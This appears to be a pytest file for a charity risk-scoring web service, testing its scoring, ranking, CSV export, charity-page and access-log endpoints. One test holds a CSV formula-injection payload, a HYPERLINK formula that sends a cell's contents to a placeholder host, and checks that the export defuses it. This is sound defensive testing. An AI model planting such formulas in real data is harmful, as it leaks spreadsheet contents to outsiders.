"""Every endpoint through TestClient, on SQLite and on PostgreSQL, calling as an admin by override."""

from __future__ import annotations

import csv
import io
import json

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import update

import serve.records
from risk_model.export import FORMULA_STARTS
from risk_model.lists.membership import LIST_TITLES, REVIEW_LISTS, WHY_ON_LIST
from risk_model.lists.records import records_from_tables
from risk_model.lists.written import as_the_files_write
from serve.deps import get_principal
from serve.internal.bodies import THREAD_BYTES
from serve.internal.db import ScoredCharity
from serve.main import create_app
from tests.support import serve as support

pytestmark = pytest.mark.service


@pytest.fixture(scope="module", params=support.BACKENDS)
def client(request, world, tmp_path_factory):
    url = support.database_url(request.param, tmp_path_factory.mktemp("db"))
    app = create_app(support.settings_for(world, url))
    app.dependency_overrides[get_principal] = lambda: support.ADMIN
    with TestClient(app) as client:
        yield client


def record_of(client: TestClient, number: str) -> dict:
    data = client.app.state.serving.current.data
    return records_from_tables(data.register, data.returns, data.case_log, [number])[number]


def top_of_list(client: TestClient, n: int = 1, review_list: str = "proactive") -> list[dict]:
    return client.get("/rankings", params={"page_size": n, "list": review_list}).json()["items"]


def whole_list(client: TestClient, review_list: str) -> dict:
    """Every row of one review list, in rank order, read a page at a time."""
    page = client.get("/rankings", params={"list": review_list, "page_size": 1000}).json()
    while len(page["items"]) < page["total"]:
        more = client.get("/rankings", params={"list": review_list, "page_size": 1000,
                                               "page": len(page["items"]) // 1000 + 1}).json()
        page["items"] += more["items"]
    return page


def not_listed(client: TestClient, status: str) -> str:
    """A charity on neither review list, with that status, in the current stored lists."""
    entries = client.app.state.serving.current.current.entries
    return sorted(n for n, (_, answer) in entries.items() if answer.review_list == status)[0]


def test_health_needs_no_key_and_its_detail_names_the_served_version(client, world):
    response = client.get("/health", headers={})
    assert response.status_code == 200
    assert response.json() == {"status": "ok"}
    assert client.get("/health/detail").json() == {"status": "ok", "model_version": world.champion_version}


def test_version_gives_the_model_and_the_dates(client, world):
    body = client.get("/version").json()
    assert body["model"]["registered_model"] == support.REGISTERED_MODEL
    assert body["model"]["version"] == world.champion_version
    assert body["as_of"] == body["data_extract_date"] == "2021-12-31"


def test_openapi_docs_describe_every_endpoint(client):
    assert client.get("/docs").status_code == 200
    paths = client.get("/openapi.json").json()["paths"]
    assert {"/score", "/rankings", "/charities/{number}", "/charities/{number}/feedback", "/models",
            "/models/reload", "/health", "/health/detail", "/version", "/access-log"} <= set(paths)


def test_score_answers_from_the_stored_list_when_the_data_match(client, world):
    top = top_of_list(client)[0]
    response = client.post("/score", json={"charities": [record_of(client, top["charity_number"])]})
    assert response.status_code == 200
    body = response.json()
    assert body["model"]["version"] == world.champion_version and body["as_of"] == "2021-12-31"
    (result,) = body["results"]
    assert result["from_stored_list"] is True
    assert result["review_list"] == "proactive" and result["why"] == WHY_ON_LIST["proactive"]
    assert result["score"] == pytest.approx(top["score"])
    assert result["risk_band"] == top["risk_band"] == "very high"
    assert result["rank_percentile"] == 100.0
    page = client.get(f"/charities/{top['charity_number']}").json()
    assert result["reasons"] == page["reasons"] and len(result["reasons"]) > 0


def test_score_says_which_list_each_charity_is_on_and_places_it_on_that_list(client):
    top_triage = top_of_list(client, review_list="triage")[0]["charity_number"]
    last_proactive = client.get("/rankings", params={"sort": "-rank", "page_size": 1}).json()["items"][0]
    inquired = not_listed(client, "under inquiry")
    changed = record_of(client, top_triage)
    assert changed["returns"]
    changed["returns"][-1]["income_gbp"] = (changed["returns"][-1]["income_gbp"] or 0) + 1
    records = [record_of(client, top_triage), record_of(client, last_proactive["charity_number"]),
               record_of(client, inquired), changed | {"charity_number": "SC999998"}]
    results = client.post("/score", json={"charities": records}).json()["results"]
    assert [r["review_list"] for r in results] == ["triage", "proactive", "under inquiry", "triage"]
    # Each on its own list's scale: the top of the triage list, the bottom of the proactive list.
    assert results[0]["rank_percentile"] == 100.0 and results[1]["rank_percentile"] == 0.0
    assert results[1]["score"] == pytest.approx(last_proactive["score"])
    assert results[2]["rank_percentile"] is None and results[2]["risk_band"] is None
    assert results[2]["under_open_inquiry"] is True and results[2]["why"] == WHY_ON_LIST["under inquiry"]
    assert results[3]["from_stored_list"] is False and 0 <= results[3]["rank_percentile"] <= 100
    assert results[3]["why"] == WHY_ON_LIST["triage"]


def test_score_computes_when_the_data_differ_and_keeps_the_order(client):
    first, second = (item["charity_number"] for item in top_of_list(client, 2))
    changed = record_of(client, second)
    year_end = next(d for d in ("2020-12-31", "2020-11-30") if d not in {r["year_end"] for r in changed["returns"]})
    changed["returns"].append({**changed["returns"][-1], "year_end": year_end, "date_received": None})
    response = client.post("/score", json={"charities": [record_of(client, first), changed]})
    assert response.status_code == 200
    results = response.json()["results"]
    assert [r["charity_number"] for r in results] == [first, second]
    assert [r["from_stored_list"] for r in results] == [True, False]
    stored = client.post("/score", json={"charities": [record_of(client, second)]}).json()["results"][0]
    assert results[1]["score"] != stored["score"]
    assert {r["factor"] for r in results[1]["reasons"]} and 0 <= results[1]["rank_percentile"] <= 100


def test_a_charity_sent_as_stored_gets_the_answer_validation_gives_without_validating_it(client, monkeypatch):
    checked = []
    check_rules = serve.records._check_rules
    monkeypatch.setattr(serve.records, "_check_rules", lambda *a: checked.append(1) or check_rules(*a))
    numbers = [top_of_list(client, review_list="triage")[0]["charity_number"], top_of_list(client)[0]["charity_number"],
               not_listed(client, "under inquiry")]
    as_stored = [record_of(client, n) for n in numbers]
    data = client.app.state.serving.current.data
    many = list(records_from_tables(data.register, data.returns, data.case_log,
                                    [item["charity_number"] for item in top_of_list(client, 60)]).values())
    assert len(json.dumps({"charities": many})) > THREAD_BYTES  # worked through in a worker thread
    for body in ({"charities": as_stored}, {"as_of": "31/12/2021", "charities": as_stored[1:]}, {"charities": many}):
        answer = client.post("/score", json=body)
        assert answer.status_code == 200 and checked == []  # answered by the records' fingerprints
        # The same facts as the files write them (headers, dd/mm/yyyy), returns and events included.
        in_files = client.post("/score", json=body | {"charities": [as_the_files_write(r) for r in body["charities"]]})
        assert in_files.status_code == 200 and checked == []
        # With spaces around the name, which validation strips: validated on arrival, then the same answer.
        spaced = [as_the_files_write(r) | {"Charity Name": f" {r['charity_name']} "} for r in body["charities"]]
        validated = client.post("/score", json=body | {"charities": spaced})
        assert checked
        assert answer.content == in_files.content == validated.content
        checked.clear()
    assert {r["from_stored_list"] for r in answer.json()["results"]} == {True}


def test_a_charity_as_the_files_write_it_with_an_impossible_date_is_refused(client):
    record = as_the_files_write(record_of(client, top_of_list(client)[0]["charity_number"]))
    response = client.post("/score", json={"charities": [record | {"Registered Date": "31/02/2020"}]})
    assert response.status_code == 422
    assert response.json()["detail"][0]["loc"][:4] == ["body", "charities", 0, "Registered Date"]


def test_a_charity_naming_its_number_twice_is_validated_not_matched(client, monkeypatch):
    checked = []
    check_rules = serve.records._check_rules
    monkeypatch.setattr(serve.records, "_check_rules", lambda *a: checked.append(1) or check_rules(*a))
    record = record_of(client, top_of_list(client)[0]["charity_number"])
    client.post("/score", json={"charities": [as_the_files_write(record) | {"charity_number": record["charity_number"]}]})
    assert checked


@pytest.mark.parametrize("written", ["NaN", "Infinity", "1e400"])
def test_a_record_as_stored_but_for_a_number_that_is_not_finite_is_refused(client, written):
    """A fast JSON writer writes a number that is not finite as null: such a record must not pass for the
    stored one holding null there."""
    record = record_of(client, top_of_list(client)[0]["charity_number"])
    text = json.dumps({"charities": [record]})
    assert '"ceased_date": null' in text
    response = client.post("/score", content=text.replace('"ceased_date": null', f'"ceased_date": {written}', 1),
                           headers={"Content-Type": "application/json"})
    assert response.status_code == 422
    assert response.json()["detail"][0]["loc"][:4] == ["body", "charities", 0, "ceased_date"]


def test_a_charity_sent_twice_as_stored_is_refused(client):
    record = record_of(client, top_of_list(client)[0]["charity_number"])
    response = client.post("/score", json={"charities": [record, record]})
    assert response.status_code == 422 and "appears more than once" in response.json()["detail"][0]["msg"]


def test_score_at_an_earlier_date_scores_that_date(client):
    number = top_of_list(client)[0]["charity_number"]
    asked = {"as_of": "2020-12-31", "charities": [record_of(client, number)]}
    # That date's lists are built by a job first (tests/test_serve_lists.py); then the date is answered.
    assert support.wait_for_job(client, client.post("/score", json=asked))["status"] == "done"
    response = client.post("/score", json=asked)
    assert response.status_code == 200
    body = response.json()
    assert body["as_of"] == "2020-12-31" and body["results"][0]["from_stored_list"] is True
    earlier = client.get(f"/charities/{number}", params={"as_of": "2020-12-31"}).json()
    assert earlier["as_of"] == "2020-12-31" and earlier["review_list"] == body["results"][0]["review_list"]
    assert body["results"][0]["score"] == pytest.approx(earlier["score"])
    assert body["results"][0]["score"] != pytest.approx(top_of_list(client)[0]["score"])


def test_score_takes_records_as_the_files_write_them(client):
    charity = {
        "Charity Number": "SC 999 999", "Charity Name": "New Charity", "Registered Date": "01/05/2015",
        "Constitutional Form": "SCIO (Scottish Charitable Incorporated Organisation)",
        "Main Operating Location": "Fife", "Purposes": "'The advancement of education', 'The advancement of health'",
        "Postcode": "KY1 1AA",
        "returns": [{"Year End": "31 March 2019", "Date Received": "02/02/2020", "Total income": "£12,500",
                     "Total expenditure": "13,000", "Number of trustees": "3"},
                    {"Year End": "2020-03-31", "Date Received": "", "Total income": "", "Total expenditure": ""}],
        "case_log": [{"Date": "01/06/2021", "Event": "Concern received", "Outcome": ""}],
    }
    response = client.post("/score", json={"charities": [charity]})
    assert response.status_code == 200, response.text
    (result,) = response.json()["results"]
    assert result["charity_number"] == "SC999999" and result["from_stored_list"] is False
    # The concern of June 2021 has no inquiry yet: the charity is on the triage list.
    assert result["review_list"] == "triage"
    sources = " ".join(r["source"] for r in result["reasons"])
    assert "31 Mar 2019, received 2 Feb 2020" in sources or "1 Jun 2021" in sources
    canonical = {
        "charity_number": "SC999999", "charity_name": "New Charity", "registered_date": "2015-05-01",
        "constitutional_form": "SCIO (Scottish Charitable Incorporated Organisation)",
        "main_operating_location": "Fife", "purposes": ["The advancement of education", "The advancement of health"],
        "returns": [{"year_end": "2019-03-31", "date_received": "2020-02-02", "income_gbp": 12500.0,
                     "expenditure_gbp": 13000.0, "trustees": 3.0}, {"year_end": "2020-03-31"}],
        "case_log": [{"date": "2021-06-01", "event": "concern_received"}],
    }
    (same,) = client.post("/score", json={"charities": [canonical]}).json()["results"]
    assert same == result and len(result["reasons"]) > 0


def test_rankings_are_paged_sorted_and_filtered(client):
    first = client.get("/rankings", params={"page_size": 20}).json()
    second = client.get("/rankings", params={"page_size": 20, "page": 2}).json()
    assert [r["rank"] for r in first["items"] + second["items"]] == list(range(1, 41))
    assert first["total"] == second["total"] == first["listed"] > 1000
    by_score = client.get("/rankings", params={"sort": "score", "page_size": 50}).json()["items"]
    assert [r["score"] for r in by_score] == sorted(r["score"] for r in by_score)
    assert by_score[0]["rank"] == first["total"]
    filters = {"local_authority": "Glasgow City", "income_band": "up to 25k",
               "constitutional_form": "Unincorporated association", "band": "elevated"}
    for name, value in filters.items():
        page = client.get("/rankings", params={name: value, "page_size": 1000}).json()
        key = {"band": "risk_band"}.get(name, name)
        assert 0 < page["total"] < first["total"] and len(page["items"]) == page["total"]
        assert {r[key] for r in page["items"]} == {value}
    health = client.get("/rankings", params={"purpose": "health", "page_size": 1000}).json()
    assert health["total"] > 0 and all("health" in r["purposes"] for r in health["items"])
    both = client.get("/rankings", params={"purpose": "health", "band": "low", "page_size": 1000}).json()
    assert both["total"] == sum(r["risk_band"] == "low" for r in health["items"])


def test_each_list_holds_only_its_own_charities_ranked_from_one(client):
    pages = {name: whole_list(client, name) for name in REVIEW_LISTS}
    assert client.get("/rankings", params={"page_size": 1}).json()["review_list"] == "proactive"
    entries = client.app.state.serving.current.current.entries
    for name, page in pages.items():
        assert page["review_list"] == name and page["total"] == page["listed"] == len(page["items"]) > 1
        assert {r["review_list"] for r in page["items"]} == {name}
        assert [r["rank"] for r in page["items"]] == list(range(1, page["total"] + 1))
        # The list's members are exactly the stored charities the library placed on it.
        assert {r["charity_number"] for r in page["items"]} == {n for n, (_, a) in entries.items()
                                                                 if a.review_list == name}
        assert page["items"][0]["rank_percentile"] == 100.0 and page["items"][-1]["rank_percentile"] == 0.0
    assert not {r["charity_number"] for r in pages["proactive"]["items"]} & {
        r["charity_number"] for r in pages["triage"]["items"]}
    # Charities on neither list are on neither page.
    assert not_listed(client, "under inquiry") not in {r["charity_number"] for p in pages.values() for r in p["items"]}
    assert client.get("/rankings", params={"list": "everyone"}).status_code == 422


def test_each_list_is_within_the_capacity_the_model_gives_it(client, world):
    capacities = client.get("/version").json()["model"]["capacities"]
    assert capacities == support.CAPACITIES  # the trained model's, not a setting's
    for name, capacity in support.CAPACITIES.items():
        page = client.get("/rankings", params={"list": name, "page_size": 1000}).json()
        assert page["capacity"] == capacity < page["listed"]
        assert [r["rank"] for r in page["items"] if r["within_capacity"]] == list(range(1, capacity + 1))


def test_rankings_export_every_matching_row_of_the_list_as_csv(client):
    total = client.get("/rankings", params={"band": "high"}).json()["total"]
    response = client.get("/rankings", params={"band": "high", "format": "csv", "page_size": 1})
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert "proactive_list_2021-12-31.csv" in response.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert len(rows) == total > 0
    assert {r["risk_band"] for r in rows} == {"high"} and {r["review_list"] for r in rows} == {"proactive"}
    assert [int(r["rank"]) for r in rows] == sorted(int(r["rank"]) for r in rows)
    triage = client.get("/rankings", params={"list": "triage", "format": "csv"})
    assert "triage_list_2021-12-31.csv" in triage.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(triage.text)))
    assert {r["review_list"] for r in rows} == {"triage"}
    assert [int(r["rank"]) for r in rows] == list(range(1, len(rows) + 1))


def test_a_name_a_spreadsheet_would_run_is_exported_as_text(client):
    """CSV formula injection: a charity named like a formula is exported with a leading apostrophe."""
    top = top_of_list(client)[0]
    formula = '=HYPERLINK("http://example.invalid/?"&A1,"Click for details")'
    sessions = client.app.state.db.sessions
    # Every stored row of the charity (other tests' dates and versions too), so the current list's is among them.
    rows = update(ScoredCharity).where(ScoredCharity.charity_number == top["charity_number"])
    with sessions.begin() as session:
        session.execute(rows.values(charity_name=formula))
    try:
        exported = list(csv.DictReader(io.StringIO(client.get("/rankings", params={"format": "csv"}).text)))
    finally:
        with sessions.begin() as session:
            session.execute(rows.values(charity_name=top["charity_name"]))
    names = {r["charity_number"]: r["charity_name"] for r in exported}
    assert names[top["charity_number"]] == "'" + formula
    assert not any(name.startswith(FORMULA_STARTS) for name in names.values())
    assert all(float(r["score"]) >= 0 for r in exported)  # numbers stay numbers


def test_charity_page_has_score_reasons_changes_and_returns(client):
    top = top_of_list(client)[0]
    number = top["charity_number"]
    page = client.get(f"/charities/{number}").json()
    assert page["rank"] == 1 and page["score"] == pytest.approx(top["score"]) and page["listed"] > 1000
    assert (page["review_list"], page["list_title"], page["why"]) == (
        "proactive", LIST_TITLES["proactive"], WHY_ON_LIST["proactive"])
    assert page["capacity"] == support.CAPACITIES["proactive"] and page["within_capacity"] is True
    assert {"sentence", "source", "group", "contribution_log_odds", "contribution_points"} <= set(page["reasons"][0])
    # Auditors keep the log-odds; the points beside them add up from the base rate to the score.
    steps = sum(r["contribution_points"] for r in page["reasons"])
    assert 0 < page["base_rate"] < 1
    assert page["base_rate"] * 100 + steps + page["other_factors_points"] == pytest.approx(page["score"] * 100)
    changed = page["what_changed"]
    if changed["moved_from"] is None:
        assert {"change_log_odds", "change_points"} <= set(changed["factors"][0])
    else:  # on another list a year before: two models' contributions are not compared
        assert changed["factors"] == [] and changed["moved_from"] != page["list_title"]
    assert page["what_changed"]["since"] == "2020-12-31"
    assert page["what_changed"]["score_now"] == pytest.approx(top["score"])
    data = client.app.state.serving.current.data
    assert len(page["returns"]) == int((data.returns["charity_number"] == number).sum())
    assert all(r["due_date"] > r["year_end"] for r in page["returns"])


def test_the_charity_page_names_the_list_and_the_rank_within_it(client):
    triage = client.get("/rankings", params={"list": "triage", "page_size": 1000}).json()
    second = triage["items"][1]
    page = client.get(f"/charities/{second['charity_number']}").json()
    assert (page["review_list"], page["list_title"], page["why"]) == ("triage", LIST_TITLES["triage"],
                                                                       WHY_ON_LIST["triage"])
    assert page["rank"] == 2 and page["listed"] == triage["listed"] == len(triage["items"])
    assert page["capacity"] == support.CAPACITIES["triage"] and page["score"] == pytest.approx(second["score"])


@pytest.mark.parametrize("status", ["under inquiry", "recently inquired"])
def test_a_charity_on_neither_list_is_told_so_and_why(client, status):
    number = not_listed(client, status)
    response = client.get(f"/charities/{number}")
    assert response.status_code == 200, response.text
    page = response.json()
    assert (page["review_list"], page["list_title"], page["why"]) == (status, LIST_TITLES[status],
                                                                       WHY_ON_LIST[status])
    assert page["rank"] is page["listed"] is page["capacity"] is page["risk_band"] is None
    assert 0 < page["score"] < 1 and page["what_changed"]["score_now"] == pytest.approx(page["score"])
    assert len(page["returns"]) > 0


def test_a_charity_not_on_the_register_is_not_found(client):
    response = client.get("/charities/SC999999")
    assert response.status_code == 404
    assert "SC999999" in response.json()["detail"]


def test_feedback_is_recorded_and_shown_on_the_charity_page(client):
    number = top_of_list(client)[0]["charity_number"]
    response = client.post(f"/charities/{number}/feedback",
                           json={"outcome": "inquiry_opened", "note": "Accounts show unexplained transfers."})
    assert response.status_code == 201
    saved = response.json()
    assert saved["recorded_by"] == support.ADMIN.name and saved["as_of"] == "2021-12-31"
    page = client.get(f"/charities/{number}").json()
    assert saved in page["feedback"]


def test_models_lists_versions_with_the_champion_and_metrics(client, world):
    body = client.get("/models").json()
    assert body["champion_version"] == body["serving_version"] == world.champion_version
    champion = next(v for v in body["versions"] if v["is_champion"])
    assert champion["aliases"] == ["champion"] and champion["is_serving"]
    assert champion["capacities"] == support.CAPACITIES and champion["model"].startswith("proactive: ")
    for name in REVIEW_LISTS:
        assert {f"{name}.precision_at_k_mean", f"{name}.holdout_precision_at_k"} <= set(champion["metrics"])
    assert "truth.proactive.champion.holdout.hits" in champion["metrics"]
    challenger = next(v for v in body["versions"] if v["version"] == world.challenger_version)
    assert not challenger["is_champion"] and challenger["capacities"] == support.CHALLENGER_CAPACITIES


def test_reload_without_a_new_champion_changes_nothing(client, world):
    body = client.post("/models/reload").json()
    assert body == {"previous_version": world.champion_version, "version": world.champion_version,
                    "changed": False, "as_of": "2021-12-31", "listed": body["listed"]}


def test_the_access_log_records_who_read_which_charity_and_when(client):
    number = top_of_list(client)[0]["charity_number"]
    client.get(f"/charities/{number}")
    client.post("/score", json={"charities": [record_of(client, number)]})
    log = client.get("/access-log", params={"charity_number": number}).json()
    reads = [(e["method"], e["path"]) for e in log["items"]]
    assert ("GET", f"/charities/{number}") in reads and ("POST", "/score") in reads
    assert {e["who"] for e in log["items"]} == {support.ADMIN.name}
    assert all(e["at"].endswith("Z") or "+00:00" in e["at"] for e in log["items"])
